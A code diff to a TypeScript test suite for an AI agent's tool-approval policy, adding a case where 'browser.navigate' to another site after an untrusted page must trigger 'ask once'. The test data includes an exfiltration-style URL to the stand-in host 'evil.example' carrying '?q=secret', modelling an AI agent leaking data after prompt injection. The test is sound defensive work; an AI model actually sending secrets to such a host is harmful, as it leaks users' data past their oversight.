@@ -29,8 +29,8 @@ const judge = (one: ApprovalQuestion, ...rules: Row[]) =>
     one,
   )
 
-const fetches = (url: string, untrusted: Provenance[]) =>
-  question({ risk: 'read', call: { id: 'c', name: 'web.fetch', arguments: { url } }, untrusted })
+const fetches = (url: string, untrusted: Provenance[], name = 'web.fetch') =>
+  question({ risk: 'read', call: { id: 'c', name, arguments: { url } }, untrusted })
 
 test.each<[string, ApprovalQuestion, string]>([
   ['reading', question({ risk: 'read' }), 'allow'],
@@ -52,6 +52,11 @@ test.each<[string, ApprovalQuestion, string]>([
   ['a first page', fetches('https://a.example/', []), 'allow'],
   ['another page of the same site', fetches('https://news.example/?q=1', [page]), 'allow'],
   ['another site after a page', fetches('https://evil.example/?q=secret', [page]), 'ask once'],
+  [
+    'another site in the browser after a page',
+    fetches('https://evil.example/?q=secret', [page], 'browser.navigate'),
+    'ask once',
+  ],
   ['a command that cannot be read', runs('if a; then b; fi'), 'ask always'],
 ])('%s', (_what, one, expected) => {
   const { decision, remember } = judge(one)
